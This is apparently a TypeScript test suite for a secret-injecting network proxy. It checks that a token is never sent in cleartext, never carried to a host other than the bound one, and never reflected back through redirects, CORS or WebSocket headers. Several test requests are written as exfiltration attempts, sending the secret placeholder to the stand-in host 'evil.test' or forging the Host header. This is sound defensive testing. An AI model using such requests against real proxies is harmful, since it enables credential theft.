// Review of secrets on the wire, with real sockets: a real proxy-gate, real origins (TLS ones behind
// opened tunnels) that record what they received and answer as some servers do. Each test is one
// way the value could reach a place it must not: the network in cleartext, the workload itself.
import { connect as netConnect } from 'node:net'
import { connect as tlsConnect, type TLSSocket } from 'node:tls'
import { join } from 'node:path'
import t, { type Test } from 'tap'
import { createCa, type Ca } from '../lib/certs/ca.js'
import { armSecrets } from '../lib/secrets/values.js'
import type { Config } from '../lib/rules/config.js'
import { tempDir } from './helpers/files.js'
import { connectHead } from './helpers/http.js'
import { rawExchange, startHttpUpstream, startHttpsUpstream, startWsUpstream, statusOf } from './helpers/net.js'
import { startDns } from './helpers/dns.js'
import { configFrom, logLine, startProxy } from './helpers/proxy.js'

const VALUE = 'ghp_0123456789abcdefghijklmnopqrstuvwxyzAB'

function armer(name: string): (c: Config) => Config {
  const dir = tempDir(name)
  return (c) => {
    const result = armSecrets(c, dir, join(dir, 'rules.json'), { V: VALUE })
    if (!result.ok) throw new Error(result.error)
    return result.value
  }
}

/** A TLS connection to `name:port` through proxy-gate's CONNECT, trusting its CA (an opened tunnel). */
function opened(proxyPort: number, name: string, port: number, ca: Ca): Promise<TLSSocket> {
  return new Promise((resolve, reject) => {
    const raw = netConnect({ host: '127.0.0.1', port: proxyPort })
    raw.once('error', reject)
    raw.once('data', (d) => {
      if (!d.toString().startsWith('HTTP/1.1 200')) return reject(new Error(d.toString()))
      const socket = tlsConnect({ socket: raw, servername: name, ca: ca.certPem })
      socket.once('secureConnect', () => resolve(socket))
      socket.once('error', reject)
    })
    raw.write(connectHead(`${name}:${port}`))
  })
}

/** Writes a request on the socket and reads until the server closes it (requests say Connection: close). */
function exchange(socket: TLSSocket, request: string): Promise<string> {
  return new Promise((resolve) => {
    const chunks: Buffer[] = []
    socket.on('data', (c: Buffer) => chunks.push(c))
    socket.once('close', () => resolve(Buffer.concat(chunks).toString('latin1')))
    socket.write(request)
  })
}

t.test('plain HTTP to a bound host on a TLS port: the value is never sent in cleartext', async (t) => {
  // a secret's host without ports means 443: `GET http://host:443/` is plain HTTP to that port
  const origin = await startHttpUpstream('127.0.0.1')
  const dns = await startDns({ 'api.bound.test': { A: ['127.0.0.1'] } })
  const arm = armer('review-secrets-cleartext')
  const rules = {
    allow: [`api.bound.test:${origin.port}`, `127.0.0.1:${origin.port}`],
    dns: { servers: [dns.server] },
    tls: { ports: [origin.port] },
    secrets: { GH: { from: 'env:V', hosts: [`api.bound.test:${origin.port}`] } },
  }
  const proxy = await startProxy(rules, { arm })
  t.teardown(async () => {
    await proxy.close()
    await Promise.all([origin.close(), dns.close()])
  })
  const placeholder = arm(configFrom(rules)).policy.secrets?.[0]?.placeholder ?? ''
  const head = [`GET http://api.bound.test:${origin.port}/user HTTP/1.1`, `Host: api.bound.test:${origin.port}`, `Authorization: Bearer ${placeholder}`, '', ''].join('\r\n')
  const answer = await rawExchange(proxy.port, head, { until: (text) => text.includes('\r\n\r\n') })
  t.equal(statusOf(answer.text), 403, 'refused: the secret\'s port is a TLS port, and this is cleartext')
  t.same(origin.requests.map((r) => r.headers.authorization), [], 'nothing went out in cleartext')
  const line = await logLine(proxy, (l) => l.reason === 'secret-misplaced', 'the refusal')
  t.match(line, { secret: 'GH', decision: 'deny', detail: /cleartext/ })
  t.notOk(JSON.stringify(proxy.logs()).includes(VALUE))
})

/** A bound origin over TLS answering as `handle` does, and a proxy-gate whose secret GH is bound to it. */
async function boundOrigin(t: Test, name: string, handle: Parameters<typeof startHttpsUpstream>[2], mode = 'enforce') {
  const ca = await createCa()
  const origin = await startHttpsUpstream('127.0.0.1', ['api.bound.test'], handle)
  const dns = await startDns({ 'api.bound.test': { A: ['127.0.0.1'] } })
  const arm = armer(name)
  const rules = {
    mode,
    allow: [`api.bound.test:${origin.port}`, `127.0.0.1:${origin.port}`],
    dns: { servers: [dns.server] },
    tls: { ports: [origin.port] },
    secrets: { GH: { from: 'env:V', hosts: [`api.bound.test:${origin.port}`] } },
  }
  const proxy = await startProxy(rules, { ca, upstreamCa: [origin.tls.cert], arm })
  t.teardown(async () => {
    await proxy.close()
    await Promise.all([origin.close(), dns.close()])
  })
  const placeholder = arm(configFrom(rules)).policy.secrets?.[0]?.placeholder ?? ''
  const send = async (lines: string[]): Promise<string> => exchange(await opened(proxy.port, 'api.bound.test', origin.port, ca), [...lines, 'Connection: close', '', ''].join('\r\n'))
  return { origin, proxy, placeholder, send }
}

t.test('an absolute-form request-target inside an opened tunnel never carries the value to the host it names', async (t) => {
  const { origin, proxy, placeholder, send } = await boundOrigin(t, 'review-secrets-absolute', undefined)
  const host = `Host: api.bound.test:${origin.port}`
  const text = await send([`GET https://evil.test/x?k=${placeholder} HTTP/1.1`, host])
  t.equal(statusOf(text), 403, 'refused: the origin would read the host from the target, not from Host')
  t.same(origin.requests, [], 'nothing reached the bound host either')
  const line = await logLine(proxy, (l) => l.reason === 'secret-misplaced', 'the refusal')
  t.match(line, { secret: 'GH', decision: 'deny', intercepted: true, detail: /absolute-form/ })
  t.equal(statusOf(await send([`GET /x?k=${placeholder} HTTP/1.1`, host])), 200, 'origin-form still gets the value')
  t.same(origin.requests.map((r) => r.url), [`/x?k=${VALUE}`])
  t.notOk(JSON.stringify(proxy.logs()).includes(VALUE))
})

t.test('a bound origin reflecting the request in its response headers never hands the value to the workload', async (t) => {
  // as many servers answer: CORS reflecting Origin, a redirect keeping the query
  const { origin, placeholder, send } = await boundOrigin(t, 'review-secrets-reflect', (req, res) => {
    const query = (req.url ?? '').split('?')[1] ?? ''
    res.writeHead(302, { 'Access-Control-Allow-Origin': req.headers.origin ?? '', Location: `/next?${query}` }).end('moved')
  })
  const text = await send([`GET /x?k=${placeholder} HTTP/1.1`, `Host: api.bound.test:${origin.port}`, `Origin: https://${placeholder}.example`])
  t.same(origin.requests.map((r) => [r.url, r.headers.origin]), [[`/x?k=${VALUE}`, `https://${VALUE}.example`]], 'the origin got the value')
  t.equal(statusOf(text), 302)
  t.notOk(text.includes(VALUE), 'the answer holds no value')
  t.match(text, `access-control-allow-origin: https://${placeholder}.example\r\n`, 'reflected as the placeholder')
  t.match(text, `location: /next?k=${placeholder}\r\n`)
})

t.test('a WebSocket origin echoing the offered subprotocol never hands the value to the workload', async (t) => {
  // the ws library, as many servers, accepts the first subprotocol offered and names it in its 101
  const ws = await startWsUpstream('127.0.0.1')
  const dns = await startDns({ 'ws.bound.test': { A: ['127.0.0.1'] } })
  const arm = armer('review-secrets-ws')
  const rules = { allow: [`ws.bound.test:${ws.port}`, `127.0.0.1:${ws.port}`], dns: { servers: [dns.server] }, secrets: { GH: { from: 'env:V', hosts: [`ws.bound.test:${ws.port}`] } } }
  const proxy = await startProxy(rules, { arm })
  t.teardown(async () => {
    await proxy.close()
    await Promise.all([ws.close(), dns.close()])
  })
  const placeholder = arm(configFrom(rules)).policy.secrets?.[0]?.placeholder ?? ''
  const head = [
    `GET http://ws.bound.test:${ws.port}/socket HTTP/1.1`,
    `Host: ws.bound.test:${ws.port}`,
    'Connection: Upgrade',
    'Upgrade: websocket',
    'Sec-WebSocket-Version: 13',
    'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
    `Sec-WebSocket-Protocol: ${placeholder}`,
    '',
    '',
  ].join('\r\n')
  const answer = await rawExchange(proxy.port, head, { until: (text) => text.includes('\r\n\r\n') })
  t.equal(statusOf(answer.text), 101)
  t.equal(ws.requests[0]?.headers['sec-websocket-protocol'], VALUE, 'the origin got the value')
  t.notOk(answer.text.includes(VALUE), 'the 101 holds no value')
  t.match(answer.text.toLowerCase(), `sec-websocket-protocol: ${placeholder.toLowerCase()}\r\n`, 'the subprotocol named by its placeholder')
})

t.test('report mode: a request enforce mode would refuse (Host naming another host) goes on without the value', async (t) => {
  // the bound host's address may be a shared front end that routes by Host: the value must not follow it
  const { origin, proxy, placeholder, send } = await boundOrigin(t, 'review-secrets-report', undefined, 'report')
  const text = await send([`GET /x HTTP/1.1`, `Host: evil.test:${origin.port}`, `Authorization: Bearer ${placeholder}`])
  t.equal(statusOf(text), 200, 'report mode lets it through')
  t.same(origin.requests.map((r) => [r.headers.host, r.headers.authorization]), [[`evil.test:${origin.port}`, `Bearer ${placeholder}`]], 'as it was sent: the placeholder, not the value')
  const line = await logLine(proxy, (l) => l.message === 'decision' && l.intercepted === true, 'the decision')
  t.match(line, { decision: 'allow', reason: 'host-mismatch', wouldDeny: true })
  t.equal(line.secret, undefined, 'no secret was put in')
  t.equal(statusOf(await send([`GET /y HTTP/1.1`, `Host: api.bound.test:${origin.port}`, `Authorization: Bearer ${placeholder}`])), 200)
  t.equal(origin.requests[1]?.headers.authorization, `Bearer ${VALUE}`, 'a request enforce mode allows gets the value')
})

t.test('a value with characters that mean something in a URL is percent-encoded in the request-target', async (t) => {
  const value = 'tok en+/=?x#y&z=1'
  const origin = await startHttpUpstream('127.0.0.1')
  const dns = await startDns({ 'plain.bound.test': { A: ['127.0.0.1'] } })
  const dir = tempDir('review-secrets-encode')
  const arm = (c: Config): Config => {
    const result = armSecrets(c, dir, join(dir, 'rules.json'), { V: value })
    if (!result.ok) throw new Error(result.error)
    return result.value
  }
  const rules = { allow: [`plain.bound.test:${origin.port}`, `127.0.0.1:${origin.port}`], dns: { servers: [dns.server] }, secrets: { K: { from: 'env:V', hosts: [`plain.bound.test:${origin.port}`] } } }
  const proxy = await startProxy(rules, { arm })
  t.teardown(async () => {
    await proxy.close()
    await Promise.all([origin.close(), dns.close()])
  })
  const placeholder = arm(configFrom(rules)).policy.secrets?.[0]?.placeholder ?? ''
  const head = [`GET http://plain.bound.test:${origin.port}/x?k=${placeholder}&admin=0 HTTP/1.1`, `Host: plain.bound.test:${origin.port}`, `X-Key: ${placeholder}`, '', ''].join('\r\n')
  const answer = await rawExchange(proxy.port, head, { until: (text) => text.includes('\r\n\r\n') })
  t.equal(statusOf(answer.text), 200)
  const url = new URL(origin.requests[0]?.url ?? '', 'http://x')
  t.same([...url.searchParams], [['k', value], ['admin', '0']], 'the query means what it did with the placeholder')
  t.equal(origin.requests[0]?.headers['x-key'], value, 'headers get the value as it is')
})
